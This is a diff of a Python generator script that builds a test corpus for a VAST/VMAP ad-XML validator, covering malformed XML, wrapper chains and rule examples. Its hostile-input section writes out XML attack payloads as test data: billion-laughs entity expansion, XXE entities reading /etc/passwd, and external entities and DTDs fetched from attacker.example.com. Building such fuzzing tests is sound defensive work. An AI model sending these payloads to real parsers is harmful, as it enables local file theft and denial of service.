+    ("invalid-utf8-in-cdata", b'<VAST version="4.2"><Error><![CDATA[https://e.example.com/\xff\xfe]]></Error></VAST>\n', "invalid UTF-8 inside CDATA"),
+    ("overlong-utf8", b'<VAST version="4.2"><Error>\xc0\xafx</Error></VAST>\n', "an overlong UTF-8 sequence"),
+    ("utf16-bom-utf8-body", b"\xff\xfe" + b'<VAST version="4.2"/>\n', "a UTF-16 byte-order mark before UTF-8 text"),
+    ("utf16be-bom-utf8-body", b"\xfe\xff" + b'<VAST version="4.2"/>\n', "a UTF-16BE byte-order mark before UTF-8 text"),
+    ("double-utf8-bom", b"\xef\xbb\xbf\xef\xbb\xbf" + b'<VAST version="4.2"/>\n', "two UTF-8 byte-order marks"),
+    ("utf32-bom", b"\xff\xfe\x00\x00" + b'<VAST version="4.2"/>\n', "a UTF-32 byte-order mark before UTF-8 text"),
+    ("unknown-encoding", '<?xml version="1.0" encoding="x-no-such-encoding"?>\n<VAST version="4.2"/>\n', "an encoding libxml2 does not know"),
+    ("declaration-not-first", '\n <?xml version="1.0"?>\n<VAST version="4.2"/>\n', "whitespace before the XML declaration"),
+    ("declaration-twice", '<?xml version="1.0"?>\n<?xml version="1.0"?>\n<VAST version="4.2"/>\n', "two XML declarations"),
+    ("declaration-bad-standalone", '<?xml version="1.0" standalone="maybe"?>\n<VAST version="4.2"/>\n', "standalone is neither yes nor no"),
+    ("empty-document", "", "an empty response body"),
+    ("whitespace-only", "\n   \n\t\n", "only whitespace"),
+    ("declaration-only", '<?xml version="1.0" encoding="UTF-8"?>\n', "only an XML declaration"),
+    ("comment-only", "<!-- no ad today -->\n", "only a comment"),
+    ("double-hyphen-in-comment", '<VAST version="4.2"><!-- a -- b --></VAST>\n', "'--' inside a comment"),
+    ("unterminated-cdata", '<VAST version="4.2"><Error><![CDATA[https://e.example.com/</Error></VAST>\n', "a CDATA section never closed"),
+    ("cdata-end-in-text", '<VAST version="4.2">a ]]> b</VAST>\n', "']]>' in character data"),
+    ("element-name-starts-with-digit", '<1VAST version="4.2"></1VAST>\n', "an element name starting with a digit"),
+    ("space-before-name", '< VAST version="4.2"></VAST>\n', "whitespace between '<' and the name"),
+    ("end-tag-with-attribute", '<VAST version="4.2"></VAST version="4.2">\n', "an attribute on an end tag"),
+    ("unclosed-start-tag", '<VAST version="4.2"\n<Ad/></VAST>\n', "a start tag without '>'"),
+    ("undeclared-element-prefix", '<vast:VAST version="4.2"></vast:VAST>\n', "an element prefix with no namespace declaration"),
+    ("undeclared-attribute-prefix", '<VAST version="4.2" xsi:noNamespaceSchemaLocation="vast.xsd"></VAST>\n', "an attribute prefix with no namespace declaration"),
+    ("control-char-in-text", b'<VAST version="4.2"><AdTitle>a\x01b</AdTitle></VAST>\n', "a C0 control character in text"),
+    ("control-char-in-attribute", b'<VAST version="4.2" id="a\x02b"></VAST>\n', "a C0 control character in an attribute"),
+    ("doctype-after-root", '<VAST version="4.2"/>\n<!DOCTYPE VAST>\n', "a DOCTYPE after the root element"),
+    ("unclosed-comment", '<VAST version="4.2"><!-- never closed </VAST>\n', "a comment never closed"),
+    ("missing-equals", '<VAST version "4.2"></VAST>\n', "an attribute without '='"),
+    ("binary-prefix", b"\x89PNG\r\n\x1a\n" + b'<VAST version="4.2"/>\n', "image bytes before the document"),
+    ("lone-less-than", '<VAST version="4.2">a < b</VAST>\n', "a raw '<' in text"),
+    ("html-instead-of-xml", "<html><body><p>Service Unavailable<br></body></html>\n", "an HTML error page instead of VAST"),
+    ("json-instead-of-xml", '{"error": "no fill"}\n', "a JSON body instead of VAST"),
+    ("pi-target-xml-inside", '<VAST version="4.2"><?xml version="1.0"?></VAST>\n', "an XML declaration inside the document"),
+    ("mixed-quotes", "<VAST version=\"4.2'></VAST>\n", "an attribute value opened with \" and closed with '"),
+]
+
+
+def generate_malformed(writer):
+    count = 0
+    for name, content, description in MALFORMED:
+        data = content.encode("utf-8") if isinstance(content, str) else content
+        rule = "XML-namespace-error" if name.startswith("undeclared-") else "XML-not-well-formed"
+        writer.add(f"malformed/{name}.xml", data)
+        writer.json(f"malformed/{name}.expect.json", expect(
+            "malformed", tags=["generated", "malformed"], description=description, present=[rule]))
+        count += 1
+    return count
+
+
+# ---------------------------------------------------------------------------------------------
+# Hostile inputs: each must end quickly with a clear diagnostic
+# ---------------------------------------------------------------------------------------------
+
+def generate_hostile(writer):
+    rng = random.Random(20260101)
+    limit = {"maxMilliseconds": 5000}
+    cases = []
+    laughs = ['<?xml version="1.0"?>', "<!DOCTYPE VAST [", '  <!ENTITY lol0 "lol">']
+    for level in range(1, 10):
+        laughs.append(f'  <!ENTITY lol{level} "' + f"&lol{level - 1};" * 10 + '">')
+    laughs += ["]>", '<VAST version="4.2"><Error>&lol9;</Error></VAST>']
+    cases.append(("billion-laughs", "\n".join(laughs) + "\n", "malformed", ["XML-dtd-present", "XML-entity-expansion"],
+                  "nested entity expansion (billion laughs)"))
+    big = "A" * 100000
+    quadratic = ['<?xml version="1.0"?>', f'<!DOCTYPE VAST [<!ENTITY a "{big}">]>',
+                 '<VAST version="4.2"><Error>' + "&a;" * 2000 + "</Error></VAST>"]
+    cases.append(("quadratic-blowup", "\n".join(quadratic) + "\n", None, ["XML-dtd-present"],
+                  "one large entity referenced many times (quadratic blowup)"))
+    cases.append(("external-entity-file", '<?xml version="1.0"?>\n<!DOCTYPE VAST [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
+                  '<VAST version="4.2"><Error>&xxe;</Error></VAST>\n', None, ["XML-dtd-present"], "an external entity reading a local file"))
+    cases.append(("external-entity-http", '<?xml version="1.0"?>\n<!DOCTYPE VAST [<!ENTITY xxe SYSTEM "http://attacker.example.com/x">]>\n'
+                  '<VAST version="4.2"><Error>&xxe;</Error></VAST>\n', None, ["XML-dtd-present"], "an external entity fetched over the network"))
+    cases.append(("external-parameter-entity", '<?xml version="1.0"?>\n<!DOCTYPE VAST [<!ENTITY % ext SYSTEM "http://attacker.example.com/x.dtd"> %ext;]>\n'
+                  '<VAST version="4.2"/>\n', None, ["XML-dtd-present"], "an external parameter entity"))
+    cases.append(("external-dtd", '<?xml version="1.0"?>\n<!DOCTYPE VAST SYSTEM "http://attacker.example.com/vast.dtd">\n'
+                  '<VAST version="4.2"/>\n', None, ["XML-dtd-present"], "an external DTD"))
+    cases.append(("recursive-entity", '<?xml version="1.0"?>\n<!DOCTYPE VAST [<!ENTITY a "&b;"><!ENTITY b "&a;">]>\n'
+                  '<VAST version="4.2"><Error>&a;</Error></VAST>\n', "malformed", ["XML-dtd-present", "XML-entity-expansion"], "entities that reference each other"))
+    depth = 20000
+    cases.append(("deep-nesting", '<VAST version="4.2">' + "<Extensions>" * depth + "</Extensions>" * depth + "</VAST>\n",
+                  "malformed", ["XML-not-well-formed"], f"{depth} nested elements"))
+    cases.append(("deep-nesting-unclosed", '<VAST version="4.2">' + "<a>" * depth, "malformed", ["XML-not-well-formed"],
+                  f"{depth} nested elements never closed"))
+    cases.append(("huge-attribute-value", '<VAST version="4.2" id="' + "x" * 1_000_000 + '"></VAST>\n', None, [],
+                  "a 1 MB attribute value"))
+    cases.append(("very-long-line", '<VAST version="4.2"><Error><![CDATA[https://e.example.com/?' + "q" * 1_000_000
+                  + ']]></Error></VAST>\n', None, [], "a 1 MB single line"))
+    cases.append(("long-element-name", '<VAST version="4.2"><' + "E" * 200_000 + "/></VAST>\n", "malformed", ["XML-not-well-formed"],
+                  "an element name of 200,000 characters"))
+    attributes = " ".join(f'a{i}="{i}"' for i in range(20000))
+    cases.append(("many-attributes", f'<VAST version="4.2" {attributes}></VAST>\n', None, [], "20,000 attributes on one element"))
+    trackings = "".join(f'<Tracking event="start"><![CDATA[https://t.example.com/{i}]]></Tracking>' for i in range(10000))
+    cases.append(("many-elements", '<VAST version="4.2"><Ad><InLine><AdSystem>x</AdSystem><AdTitle>t</AdTitle>'
+                  '<Impression><![CDATA[https://t.example.com/i]]></Impression><Creatives><Creative><Linear>'
+                  f"<Duration>00:00:15</Duration><TrackingEvents>{trackings}</TrackingEvents></Linear></Creative>"
+                  "</Creatives></InLine></Ad></VAST>\n", None, [], "10,000 tracking elements"))
+    namespaces = " ".join(f'xmlns:n{i}="urn:n{i}"' for i in range(5000))
+    cases.append(("many-namespaces", f'<VAST version="4.2" {namespaces}></VAST>\n', None, [], "5,000 namespace declarations"))
+    cases.append(("binary-garbage", bytes(rng.getrandbits(8) for _ in range(65536)), "malformed", ["XML-not-well-formed"],
+                  "64 KiB of random bytes"))
+    cases.append(("binary-garbage-after-root", b'<VAST version="4.2"/>' + bytes(rng.getrandbits(8) for _ in range(16384)),
+                  "malformed", ["XML-not-well-formed"], "random bytes after a valid root"))
+    cases.append(("all-nul", b"\x00" * 65536, "malformed", ["XML-not-well-formed"], "64 KiB of NUL bytes"))
+    cases.append(("gzip-body", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + bytes(rng.getrandbits(8) for _ in range(4096)),
+                  "malformed", ["XML-not-well-formed"], "a gzip body served without Content-Encoding"))
+    cases.append(("huge-text-node", '<VAST version="4.2"><Ad><InLine><AdSystem>x</AdSystem><AdTitle>' + "t" * 1_000_000
+                  + "</AdTitle></InLine></Ad></VAST>\n", None, [], "a 1 MB text node"))
+    cases.append(("many-comments", '<VAST version="4.2">' + "<!-- c -->" * 50000 + "</VAST>\n", None, [], "50,000 comments"))
+    cases.append(("many-cdata-sections", '<VAST version="4.2"><Error>' + "<![CDATA[x]]>" * 50000 + "</Error></VAST>\n", None, [],
+                  "50,000 CDATA sections in one element"))
+    count = 0
+    for name, content, verdict, present, description in cases:
+        data = content.encode("utf-8") if isinstance(content, str) else content
+        extension = "bin" if isinstance(content, bytes) and not data.lstrip().startswith(b"<") else "xml"
+        writer.add(f"hostile/{name}.{extension}", data)
+        # Entities are never loaded: the <Error> pixel of an external-entity attack keeps the bare
+        # reference instead of the file or URL contents.
+        tracking = {"error": ["&xxe;"]} if name.startswith("external-entity") else None
+        writer.json(f"hostile/{name}.expect.json", expect(
+            verdict, tags=["generated", "hostile"], description=description, present=present, limits=limit,
+            tracking=tracking))
+        count += 1
+    return count
+
+
+# ---------------------------------------------------------------------------------------------
+# Wrapper chains
+# ---------------------------------------------------------------------------------------------
+
+def chain_wrapper(name, next_uri, hop, events=True, pod=False):
+    attributes = ' allowMultipleAds="true"' if pod else ""
+    lines = ['<VAST version="4.2">', f'  <Ad id="{name}">', f"    <Wrapper{attributes}>",
+             '      <AdSystem version="1.0">Conform Exchange</AdSystem>',
+             f"      <VASTAdTagURI><![CDATA[{next_uri}]]></VASTAdTagURI>",
+             f"      <Error><![CDATA[https://errors.example.com/{name}?code=[ERRORCODE]]]></Error>",
+             f"      <Impression><![CDATA[https://track.example.com/{name}/impression]]></Impression>"]
+    if events:
+        lines += ["      <Creatives>", f'        <Creative id="{name}-c">', "          <Linear>", "            <TrackingEvents>",
+                  f'              <Tracking event="start"><![CDATA[https://track.example.com/{name}/start]]></Tracking>',
+                  f'              <Tracking event="complete"><![CDATA[https://track.example.com/{name}/complete]]></Tracking>',
+                  "            </TrackingEvents>", "            <VideoClicks>",
+                  f"              <ClickTracking><![CDATA[https://track.example.com/{name}/click]]></ClickTracking>",
+                  "            </VideoClicks>", "          </Linear>", "        </Creative>", "      </Creatives>"]
+    lines += ["    </Wrapper>", "  </Ad>", "</VAST>"]
+    return "\n".join(lines) + "\n"
+
+
+def chain_inline(name, ads=1, companions=False):
+    lines = ['<VAST version="4.2">']
+    for number in range(1, ads + 1):
+        ad = f"{name}-{number}" if ads > 1 else name
+        seq = f' sequence="{number}"' if ads > 1 else ""
+        lines += [f'  <Ad id="{ad}"{seq}>', "    <InLine>", '      <AdSystem version="2.1">Conform Ad Server</AdSystem>',
+                  f"      <AdTitle>Chain target {ad}</AdTitle>",
+                  f"      <Error><![CDATA[https://errors.example.com/{ad}?code=[ERRORCODE]]]></Error>",
+                  f"      <Impression><![CDATA[https://track.example.com/{ad}/impression]]></Impression>",
+                  f"      <AdServingId>serve-{ad}</AdServingId>", "      <Creatives>", f'        <Creative id="{ad}-c">',
+                  f'          <UniversalAdId idRegistry="Ad-ID">CHAIN-{ad}</UniversalAdId>', "          <Linear>",
+                  "            <Duration>00:00:15</Duration>", "            <TrackingEvents>",
+                  f'              <Tracking event="start"><![CDATA[https://track.example.com/{ad}/start]]></Tracking>',
+                  f'              <Tracking event="complete"><![CDATA[https://track.example.com/{ad}/complete]]></Tracking>',
+                  "            </TrackingEvents>", "            <VideoClicks>",
+                  f"              <ClickThrough><![CDATA[https://landing.example.com/{ad}]]></ClickThrough>",
+                  f"              <ClickTracking><![CDATA[https://track.example.com/{ad}/click]]></ClickTracking>",
+                  "            </VideoClicks>", "            <MediaFiles>",
+                  f'              <MediaFile delivery="progressive" type="video/mp4" width="1280" height="720"><![CDATA[https://cdn.example.com/{ad}/720.mp4]]></MediaFile>',
+                  "            </MediaFiles>", "          </Linear>", "        </Creative>"]
+        if companions:
+            lines += [f'        <Creative id="{ad}-cp">', f'          <UniversalAdId idRegistry="Ad-ID">CHAIN-{ad}-CP</UniversalAdId>',
+                      '          <CompanionAds required="any">', '            <Companion width="300" height="250">',
+                      f'              <StaticResource creativeType="image/png"><![CDATA[https://cdn.example.com/{ad}/mpu.png]]></StaticResource>',
+                      "            </Companion>", "          </CompanionAds>", "        </Creative>"]
+        lines += ["      </Creatives>", "    </InLine>", "  </Ad>"]
+    lines.append("</VAST>")
+    return "\n".join(lines) + "\n"
+
+
+def write_chain(writer, folder, documents, root, mapping, expectation, max_depth=5):
+    for name, text in documents.items():
+        writer.add(f"chains/{folder}/{name}", text)
+    writer.json(f"chains/{folder}/chain.json", {"version": 1, "root": root, "map": mapping, "maxDepth": max_depth,
+                                                "expect": expectation})
+
+
+def generate_chains(writer):
+    count = 0
+    base = "https://ads.example.com/chain"
+    for depth in range(1, 8):
+        for variant in ["linear", "companions", "no-wrapper-creatives"]:
+            folder = f"depth-{depth}-{variant}"
+            names = [f"w{i}" for i in range(1, depth + 1)]
+            docs, mapping = {}, {}
+            for i, name in enumerate(names):
+                target = names[i + 1] if i + 1 < len(names) else "inline"
+                uri = f"{base}/{folder}/{target}.xml"
+                docs[f"{name}.xml"] = chain_wrapper(f"{folder}-{name}", uri, i, events=variant != "no-wrapper-creatives")
+                mapping[uri] = f"{target}.xml"
+            docs["inline.xml"] = chain_inline(f"{folder}-inline", companions=variant == "companions")
+            resolved = depth <= 5
+            wrappers = [f"{folder}-{name}" for name in names]
+            if resolved:
+                ad = f"{folder}-inline"
+                tracking = {
+                    "impression": [f"https://track.example.com/{w}/impression" for w in wrappers] + [f"https://track.example.com/{ad}/impression"],
+                    "error": [f"https://errors.example.com/{w}?code=[ERRORCODE]" for w in wrappers] + [f"https://errors.example.com/{ad}?code=[ERRORCODE]"],
+                }
+                if variant != "no-wrapper-creatives":
+                    for event, path in [("start", "start"), ("complete", "complete"), ("clickTracking", "click")]:
+                        tracking[event] = [f"https://track.example.com/{w}/{path}" for w in wrappers] + [f"https://track.example.com/{ad}/{path}"]
+                else:
+                    for event, path in [("start", "start"), ("complete", "complete"), ("clickTracking", "click")]:
+                        tracking[event] = [f"https://track.example.com/{ad}/{path}"]
+                tracking["clickThrough"] = [f"https://landing.example.com/{ad}"]
+                expectation = expect("resolved", tags=["generated", "chain", f"depth-{depth}"],
+                                     description=f"{depth} wrapper(s) then an InLine; wrapper tracking merged root first",
+                                     chain={"stopReason": "inline", "hops": depth + 1}, tracking=tracking)
+            else:
+                expectation = expect("unresolved", tags=["generated", "chain", f"depth-{depth}", "depth-limit"],
+                                     description=f"{depth} wrappers exceed the depth limit of 5 (VAST error 302)",
+                                     chain={"stopReason": "depth-exceeded", "errorCode": 302})
+            write_chain(writer, folder, docs, "w1.xml", mapping, expectation)
+            count += 1
+    # Loops and self references.
+    for size in range(1, 5):
+        folder = "self-reference" if size == 1 else f"loop-{size}"
+        names = [f"w{i}" for i in range(1, size + 1)]
+        docs, mapping = {}, {}
+        for i, name in enumerate(names):
+            target = names[(i + 1) % size]
+            uri = f"{base}/{folder}/{target}.xml"
+            docs[f"{name}.xml"] = chain_wrapper(f"{folder}-{name}", uri, i)
+            mapping[uri] = f"{target}.xml"
+        write_chain(writer, folder, docs, "w1.xml", mapping, expect(
+            "unresolved", tags=["generated", "chain", "loop"],
+            description="a wrapper that points back to itself" if size == 1 else f"{size} wrappers in a cycle",
+            chain={"stopReason": "loop", "errorCode": 302}))
+        count += 1
+    # Empty responses, missing targets, pods.
+    for depth in range(1, 4):
+        names = [f"w{i}" for i in range(1, depth + 1)]
+        for kind in ["empty-response", "error-only-response", "missing-target", "unmapped-target"]:
+            folder = f"{kind}-{depth}"
+            docs, mapping = {}, {}
+            for i, name in enumerate(names):
+                target = names[i + 1] if i + 1 < len(names) else "end"
+                uri = f"{base}/{folder}/{target}.xml"
+                docs[f"{name}.xml"] = chain_wrapper(f"{folder}-{name}", uri, i)
+                if target != "end":
+                    mapping[uri] = f"{target}.xml"
+                elif kind == "empty-response":
+                    docs["end.xml"] = '<VAST version="4.2"/>\n'
+                    mapping[uri] = "end.xml"
+                elif kind == "error-only-response":
+                    docs["end.xml"] = '<VAST version="4.2">\n  <Error><![CDATA[https://errors.example.com/no-fill]]></Error>\n</VAST>\n'
+                    mapping[uri] = "end.xml"
+                elif kind == "missing-target":
+                    mapping[uri] = None
+            if kind in ("empty-response", "error-only-response"):
+                chain = {"stopReason": "no-ad", "errorCode": 303, "hops": depth + 1}
+                description = "the last wrapper's target returns no ad (VAST error 303)"
+            else:
+                chain = {"stopReason": "fetch-failed", "errorCode": 301, "hops": depth + 1}
+                description = "the last wrapper's target cannot be fetched (VAST error 301)"
+            write_chain(writer, folder, docs, "w1.xml", mapping, expect(
+                "unresolved", tags=["generated", "chain", kind], description=description, chain=chain))
+            count += 1
+        # Pods through wrappers: allowMultipleAds="true" on every wrapper lets the pod through; without
+        # it (the default, false) only a stand-alone ad may come back, and a pod is no ad (303).
+        for allowed in (True, False):
+            folder = f"pod-through-{depth}-wrappers" if allowed else f"pod-refused-{depth}-wrappers"
+            docs, mapping = {}, {}
+            for i, name in enumerate(names):
+                target = names[i + 1] if i + 1 < len(names) else "pod"
+                uri = f"{base}/{folder}/{target}.xml"
+                docs[f"{name}.xml"] = chain_wrapper(f"{folder}-{name}", uri, i, pod=allowed)
+                mapping[uri] = f"{target}.xml"
+            docs["pod.xml"] = chain_inline(f"{folder}-pod", ads=3)
+            if allowed:
+                expectation = expect(
+                    "resolved", tags=["generated", "chain", "pod"],
+                    description=f"a pod of 3 ads reached through {depth} wrapper(s) that allow multiple ads",
+                    chain={"stopReason": "inline", "hops": depth + 1})
+            else:
+                expectation = expect(
+                    "unresolved", tags=["generated", "chain", "pod"],
+                    description=f"a pod behind {depth} wrapper(s) that do not allow multiple ads: no ad (VAST error 303)",
+                    chain={"stopReason": "no-ad", "errorCode": 303})
+            write_chain(writer, folder, docs, "w1.xml", mapping, expectation)
+            count += 1
+    return count
+
+
+# ---------------------------------------------------------------------------------------------
+# Rules: one case per rule example
+# ---------------------------------------------------------------------------------------------
+
+def generate_rules(writer, examples):
+    count = 0
+    for rule in examples:
+        rule_id = rule["id"]
+        for number, text in enumerate(rule["valid"], start=1):
+            writer.case(f"rules/{rule_id}/valid-{number}.xml", text, expect(
+                tags=["generated", "rule-example", "must-not-fire"],
+                description=f"valid example {number} of {rule_id}: the rule must not fire", absent=[rule_id]))
+            count += 1
+        for number, example in enumerate(rule["invalid"], start=1):
+            present = [{"rule": rule_id, "line": p["line"], "column": p["column"]} for p in example["positions"]]
+            if not present:
+                present = [rule_id]
+            writer.case(f"rules/{rule_id}/invalid-{number}.xml", example["text"], expect(
+                tags=["generated", "rule-example", "must-fire"],
+                description=f"invalid example {number} of {rule_id}: the rule fires at each marked position",
+                present=present))
+            count += 1
+    return count
+
+
+# ---------------------------------------------------------------------------------------------
+
+def refresh_rule_examples():
+    result = subprocess.run(["swift", "run", "-q", "conform", "dump-rule-examples"], cwd=ROOT,
+                            capture_output=True, text=True)
+    if result.returncode != 0:
+        sys.stderr.write(result.stderr)
+        raise SystemExit("could not run 'swift run conform dump-rule-examples'")
+    data = json.loads(result.stdout)
+    with open(RULE_EXAMPLES, "w", encoding="utf-8") as handle:
+        handle.write(json.dumps(data, indent=2, sort_keys=True, ensure_ascii=False) + "\n")
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--refresh-rules", action="store_true",
+                        help="regenerate scripts/rule-examples.json with 'swift run conform dump-rule-examples' first")
+    parser.add_argument("--check", action="store_true", help="write nothing; exit 1 when Corpus/ is out of date")
+    args = parser.parse_args()
+    if args.refresh_rules:
+        refresh_rule_examples()
+    with open(RULE_EXAMPLES, encoding="utf-8") as handle:
+        examples = json.load(handle)
+
+    writer = Writer(ROOT)
+    counts = {
+        "vast": generate_vast(writer, per_family=20) + generate_wrappers(writer, per_version=12),
+        "vmap": generate_vmap(writer, 120),
+        "malformed": generate_malformed(writer),
+        "hostile": generate_hostile(writer),
+        "chains": generate_chains(writer),
+        "rules": generate_rules(writer, examples),
+    }
+    differences = writer.commit(check=args.check)
+    total = sum(counts.values())
+    summary = ", ".join(f"{name} {number}" for name, number in counts.items())
+    if args.check:
+        if differences:
+            print(f"Corpus/ is out of date ({len(differences)} file(s) differ); run: python3 scripts/gen-corpus.py")
+            for path in differences[:20]:
+                print("  " + os.path.relpath(path, ROOT))
+            return 1
+        print(f"Corpus/ is up to date: {total} generated cases ({summary})")
+        return 0
+    print(f"generated {total} cases ({summary}); {len(differences)} file(s) changed")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
